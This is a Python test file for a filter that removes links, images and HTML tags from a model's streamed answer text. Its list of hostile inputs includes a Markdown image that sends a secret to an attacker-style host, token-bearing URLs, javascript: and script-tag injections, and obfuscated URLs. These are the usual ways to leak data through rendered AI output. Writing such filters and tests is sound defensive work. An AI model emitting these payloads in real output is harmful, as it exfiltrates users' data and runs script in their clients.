"""A model's text reaches a reader without a link, an image or a tag (reliability S27)."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codeintel_rev.answer.plain import MAX_WORD, REMOVED, Words, without_links

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "[click](//evil.example/a)",
    "<img src=https://evil.example/a.png>",
    "<IMG/src=//evil.example>",
    "<a href='javascript:alert(1)'>",
    "https://evil.example/path?token=1",
    "ftp://evil.example www.evil.example/x",
    "[ref]: //evil.example/x",
    "ht\u200btps://evil.example",
    "h\u202ettps://evil.example",
    "![a](data:image/png;base64,AAAA)",
    "</script><script>fetch()</script>",
]


def streamed(*pieces: str) -> str:
    words = Words()
    return "".join(words.feed(piece) for piece in pieces) + words.finish()


def links(text: str) -> list[str]:
    """Return what Markdown, HTML or an eager terminal would follow."""
    return re.findall(
        r"(?i)\]\(|://\w|(?<![^\s(<])//\w+\.|\bwww\.\w|<[!/]?(?:a|img|script)\b|javascript:|data:\w+/", text
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_no_link_is_left(text: str) -> None:
    assert links(text) or text != without_links(text)
    assert links(streamed(f"See {text} there.")) == []


@pytest.mark.parametrize("text", ["`a // b`, `List<String>`, a/b/c.py and x[1:2].", "Übung macht\n\nden Meister 👩"])
def test_code_and_prose_are_left_as_they_are(text: str) -> None:
    assert streamed(text) == text


def test_a_url_is_named_as_removed() -> None:
    assert streamed("See https://evil.example/x, or not.") == f"See {REMOVED} or not."


def test_a_word_too_long_to_hold_is_cut_in_two() -> None:
    assert streamed("x" * (MAX_WORD + 1)) == "x" * MAX_WORD + " x"


def test_what_streams_ends_where_white_space_begins() -> None:
    words = Words()
    assert words.feed("one two thr") == "one two"
    assert words.feed("ee e\u0301") == " three"
    assert words.finish() == " e\u0301"


PIECES = st.sampled_from(
    ["a", " ", "\n", "](", "://", "http", "s", "<", "img", "www", ".", "(", "[x]", "//b.c", "x" * 300]
)


@given(st.lists(PIECES, max_size=20).map("".join), st.lists(st.integers(0, 300), max_size=8))
def test_the_way_a_text_is_cut_changes_nothing(text: str, cuts: list[int]) -> None:
    ends = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    whole = streamed(text)
    assert streamed(*(text[start:end] for start, end in pairwise(ends))) == whole
    assert links(whole) == []
